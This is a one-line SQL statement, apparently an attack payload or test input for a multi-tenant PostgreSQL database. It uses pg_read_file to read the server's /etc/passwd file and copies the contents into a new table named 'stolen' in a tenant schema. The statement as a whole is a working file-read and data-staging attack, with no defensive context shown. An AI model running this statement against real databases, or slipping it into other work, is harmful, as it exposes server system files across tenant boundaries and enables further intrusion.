CREATE TABLE tenant_acme.stolen AS SELECT pg_read_file('/etc/passwd');
